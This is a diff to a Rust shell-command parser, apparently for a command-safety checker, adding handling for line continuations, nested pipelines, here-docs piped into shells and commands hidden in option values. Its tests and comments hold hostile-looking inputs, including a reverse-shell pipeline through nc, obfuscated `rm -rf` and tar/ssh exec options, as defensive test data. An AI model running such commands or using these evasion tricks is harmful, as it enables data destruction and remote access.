@@ -39,6 +39,9 @@ pub enum CommandSource {
     /// Named in another program's inline code, option or `!` escape (`python -c
     /// "os.system(...)"`, `vim -c ':!sh'`); the host program's name.
     Embedded(String),
+    /// Given as the value of another program's option (`--checkpoint-action=exec=`,
+    /// `-o ProxyCommand=`, `--upload-pack=`); the host program's name.
+    OptionValue(String),
 }
 
 /// A redirection operator.
@@ -104,6 +107,8 @@ pub struct SimpleCommand {
     pub via: Vec<String>,
     /// Runs with `&`.
     pub background: bool,
+    /// Position in [`Script::commands`].
+    pub index: usize,
 }
 
 impl SimpleCommand {
@@ -146,6 +151,7 @@ impl SimpleCommand {
             source: CommandSource::Direct,
             via: Vec::new(),
             background: false,
+            index: 0,
         }
     }
 
@@ -198,6 +204,17 @@ thread_local! {
     static PARSER: RefCell<Option<Parser>> = const { RefCell::new(None) };
 }
 
+/// A directly exec'd argv as a script: the program itself, and whatever it runs
+/// through wrappers (`sh -c`, `env`, `sudo` ...).
+pub fn parse_argv(argv: &[String]) -> Script {
+    let mut walker = Walker {
+        script: Script::default(),
+        next_pipe: 0,
+    };
+    walker.push(SimpleCommand::from_argv(argv), 0);
+    walker.script
+}
+
 /// Parse a command line.
 pub fn parse(command: &str) -> Script {
     let mut script = Script::default();
@@ -212,6 +229,14 @@ pub fn parse(command: &str) -> Script {
     let mut walker = Walker {
         script,
         next_pipe: 0,
+    };
+    // Line continuation happens before tokenising: `r\<newline>m` is `rm`.
+    let joined;
+    let command = if command.contains("\\\n") {
+        joined = command.replace("\\\n", "");
+        joined.as_str()
+    } else {
+        command
     };
     walker.script_text(command, 0, CommandSource::Direct, &[]);
     walker.script
@@ -260,6 +285,7 @@ impl Walker {
                     source,
                     via: via.to_vec(),
                     background: false,
+                    index: 0,
                 };
                 self.push(cmd, depth);
             }
@@ -325,34 +351,124 @@ impl Walker {
             }
             "declaration_command" | "unset_command" => self.declaration(node, src, depth, ctx),
             "pipeline" => {
-                let id = self.next_pipe;
-                self.next_pipe += 1;
+                // `a | b 2>&1 | c` parses as a pipeline nested in a pipeline: stages
+                // of the inner one belong to the outer one, in order (each outer
+                // stage has room for 64 inner ones).
+                let (id, base, whole) = match (ctx.pipe, &ctx.pipe_text) {
+                    (Some(outer), Some(t)) => (outer.id, outer.index, t.clone()),
+                    _ => {
+                        let id = self.next_pipe;
+                        self.next_pipe += 1;
+                        (id, 0, text(node, src).trim().to_string())
+                    }
+                };
                 let stages: Vec<Node<'_>> = named_children(node).collect();
                 let len = u16::try_from(stages.len()).unwrap_or(u16::MAX);
                 for (i, stage) in stages.into_iter().enumerate() {
-                    let index = u16::try_from(i).unwrap_or(u16::MAX);
+                    let step = if base == 0 && ctx.pipe.is_none() {
+                        64
+                    } else {
+                        1
+                    };
+                    let index = base
+                        .saturating_add(u16::try_from(i).unwrap_or(u16::MAX).saturating_mul(step));
                     let c = Ctx {
                         pipe: Some(PipePos { id, index, len }),
-                        pipe_text: Some(text(node, src).trim().to_string()),
+                        pipe_text: Some(whole.clone()),
                         ..ctx.clone()
                     };
                     self.node(stage, src, depth + 1, &c);
                 }
+                self.literal_text_into_shell(id, depth);
             }
             "redirected_statement" => {
                 let mut c = ctx.clone();
                 let mut body = None;
+                // Commands written after a here-doc's start line (`cat <<EOF | sh`,
+                // `cat <<EOF && rm x`) parse as children of the redirect.
+                let mut continuations = Vec::new();
                 for child in named_children(node) {
                     match child.kind() {
                         "file_redirect" | "heredoc_redirect" | "herestring_redirect" => {
                             c.redirects.push(redirect(child, src));
                             self.walk_children(child, src, depth + 1, ctx);
+                            continuations.extend(named_children(child).filter(|n| {
+                                !matches!(
+                                    n.kind(),
+                                    "heredoc_start"
+                                        | "heredoc_body"
+                                        | "heredoc_end"
+                                        | "file_descriptor"
+                                        | "word"
+                                        | "string"
+                                        | "raw_string"
+                                        | "concatenation"
+                                        | "simple_expansion"
+                                        | "expansion"
+                                        | "number"
+                                )
+                            }));
                         }
                         _ => body = Some(child),
                     }
                 }
-                if let Some(b) = body {
-                    self.node(b, src, depth + 1, &c);
+                let piped = continuations
+                    .iter()
+                    .any(|n| n.kind() == "pipeline" || n.kind() == "command");
+                if piped && ctx.pipe.is_none() {
+                    // The here-doc's command is stage 0 of the pipeline that follows.
+                    let id = self.next_pipe;
+                    self.next_pipe += 1;
+                    let whole = text(node, src).trim().to_string();
+                    let stage = |index: u16| Ctx {
+                        pipe: Some(PipePos { id, index, len: 2 }),
+                        pipe_text: Some(whole.clone()),
+                        ..Ctx::default()
+                    };
+                    if let Some(b) = body {
+                        self.node(
+                            b,
+                            src,
+                            depth + 1,
+                            &Ctx {
+                                redirects: c.redirects.clone(),
+                                ..Ctx {
+                                    source: ctx.source.clone(),
+                                    via: ctx.via.clone(),
+                                    ..stage(0)
+                                }
+                            },
+                        );
+                    }
+                    let mut index = 64;
+                    for cont in &continuations {
+                        let parts: Vec<Node<'_>> = if cont.kind() == "pipeline" {
+                            named_children(*cont).collect()
+                        } else {
+                            vec![*cont]
+                        };
+                        for part in parts {
+                            self.node(
+                                part,
+                                src,
+                                depth + 1,
+                                &Ctx {
+                                    source: ctx.source.clone(),
+                                    via: ctx.via.clone(),
+                                    ..stage(index)
+                                },
+                            );
+                            index += 64;
+                        }
+                    }
+                    self.literal_text_into_shell(id, depth);
+                } else {
+                    if let Some(b) = body {
+                        self.node(b, src, depth + 1, &c);
+                    }
+                    for cont in continuations {
+                        self.node(cont, src, depth + 1, ctx);
+                    }
                 }
             }
             "function_definition" => self.function(node, src, depth, ctx),
@@ -506,11 +622,61 @@ impl Walker {
             source: ctx.source.clone().unwrap_or(CommandSource::Direct),
             via: ctx.via.clone(),
             background: ctx.background,
+            index: 0,
+        }
+    }
+
+    /// `echo 'cmd' | sh`, `printf ... | bash`, `cat <<EOF | sh`: the text a literal
+    /// producer pipes into a shell is a script of its own.
+    fn literal_text_into_shell(&mut self, pipe_id: u32, depth: usize) {
+        let stages: Vec<&SimpleCommand> = self
+            .script
+            .commands
+            .iter()
+            .filter(|c| {
+                c.pipe.is_some_and(|p| p.id == pipe_id) && c.source != CommandSource::Substitution
+            })
+            .collect();
+        let mut scripts = Vec::new();
+        for pair in stages.windows(2) {
+            let (producer, consumer) = (pair[0], pair[1]);
+            if !unwrap::is_shell(consumer.program())
+                || consumer
+                    .args()
+                    .iter()
+                    .any(|w| w.value.starts_with('-') && w.value.contains('c'))
+            {
+                continue;
+            }
+            let text = match producer.program() {
+                "echo" | "printf" if producer.args().iter().all(|w| !w.dynamic) => {
+                    let words: Vec<&str> = producer
+                        .args()
+                        .iter()
+                        .map(|w| w.value.as_str())
+                        .filter(|v| !matches!(*v, "-e" | "-n" | "-E"))
+                        .collect();
+                    Some(words.join(" ").replace("\\n", "\n"))
+                }
+                "cat" => producer.redirects.iter().find_map(|r| match r.op {
+                    RedirectOp::HereDoc => r.body.clone(),
+                    RedirectOp::HereString => Some(r.target.value.clone()),
+                    _ => None,
+                }),
+                _ => None,
+            };
+            if let Some(t) = text {
+                scripts.push((t, consumer.via.clone()));
+            }
+        }
+        for (t, via) in scripts {
+            self.script_text(&t, depth + 1, CommandSource::HereDoc, &via);
         }
     }
 
     /// Record a command and everything its wrappers run.
-    fn push(&mut self, cmd: SimpleCommand, depth: usize) {
+    fn push(&mut self, mut cmd: SimpleCommand, depth: usize) {
+        cmd.index = self.script.commands.len();
         let inner = unwrap::unwrap(&cmd);
         self.script.commands.push(cmd);
         for item in inner {
@@ -653,6 +819,50 @@ mod tests {
             assert!(programs.contains(&p), "{p} missing from {programs:?}");
         }
         assert!(s.errors.is_empty(), "{:?}", s.errors);
+    }
+
+    #[test]
+    fn line_continuations_join_words() {
+        let s = parse("r\\\nm -rf /x");
+        assert_eq!(s.commands[0].program(), "rm");
+    }
+
+    #[test]
+    fn nested_pipelines_are_one_pipeline() {
+        let s = parse("cat f|sh -i 2>&1|nc h 1 >f");
+        let ids: Vec<u32> = s
+            .commands
+            .iter()
+            .filter_map(|c| c.pipe.map(|p| p.id))
+            .collect();
+        assert_eq!(ids.len(), 3);
+        assert!(ids.iter().all(|i| *i == ids[0]), "{ids:?}");
+        let idx: Vec<u16> = s
+            .commands
+            .iter()
+            .filter_map(|c| c.pipe.map(|p| p.index))
+            .collect();
+        assert!(idx.windows(2).all(|w| w[0] < w[1]), "{idx:?}");
+    }
+
+    #[test]
+    fn commands_after_a_here_doc_start_line_are_seen() {
+        let s = parse("cat <<EOF | sh\nrm -rf /x\nEOF\n");
+        assert!(
+            s.commands.iter().any(|c| c.program() == "sh"),
+            "{:?}",
+            s.commands
+        );
+        assert!(
+            s.commands.iter().any(|c| c.program() == "rm"),
+            "the body piped into sh is a script"
+        );
+        let s = parse("cat <<EOF && touch y\nhi\nEOF\n");
+        assert!(
+            s.commands.iter().any(|c| c.program() == "touch"),
+            "{:?}",
+            s.commands
+        );
     }
 
     #[test]
